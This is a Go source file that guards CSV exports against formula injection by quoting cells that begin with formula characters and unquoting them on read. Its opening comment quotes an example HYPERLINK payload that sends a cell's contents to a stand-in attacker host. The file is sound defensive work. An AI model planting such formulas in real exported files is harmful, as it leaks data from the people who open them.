package csvfmt

// Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a CSV cell that
// begins with = + - or @ as a formula, and some also one that begins with
// a tab or a carriage return. An exported title such as
// `=HYPERLINK("http://evil.example/?"&A1, "click")` would run on the
// investigator's machine when the file is opened: CSV injection.
//
// The defence must not alter evidence. Write puts a single quote before any
// cell that would be taken for a formula, which spreadsheets show as text;
// Read removes exactly that quote again. So that the quote is never
// ambiguous, a cell that already begins with quotes followed by a formula
// character gets one more: guard and unguard are exact inverses, and a
// title really beginning with `'=` survives the round trip.
//
// Dates are exempt: they are EDTF, not free text ("-0043" is 44 BCE, and
// "../2021" an open start), made only of digits, letters X, Y, T and Z
// and - / . : + ? ~ %, so they cannot call a function, and a quote would
// make them invalid EDTF.

// formulaStart reports whether a spreadsheet would take a cell beginning
// with c for a formula.
func formulaStart(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// FormulaLike reports whether a spreadsheet would take cell for a
// formula: a format read by other tools as it is written, which cannot
// guard such a cell, can at least say that it holds some.
func FormulaLike(cell string) bool { return cell != "" && formulaStart(cell[0]) }

// needsGuard reports whether s is a run of single quotes (possibly empty)
// followed by a formula character.
func needsGuard(s string) bool {
	i := 0
	for i < len(s) && s[i] == '\'' {
		i++
	}
	return i < len(s) && formulaStart(s[i])
}

// guard returns cell as Write puts it in the file.
func guard(cell string) string {
	if needsGuard(cell) {
		return "'" + cell
	}
	return cell
}

// unguard undoes guard.
func unguard(cell string) string {
	if len(cell) > 1 && cell[0] == '\'' && needsGuard(cell[1:]) {
		return cell[1:]
	}
	return cell
}
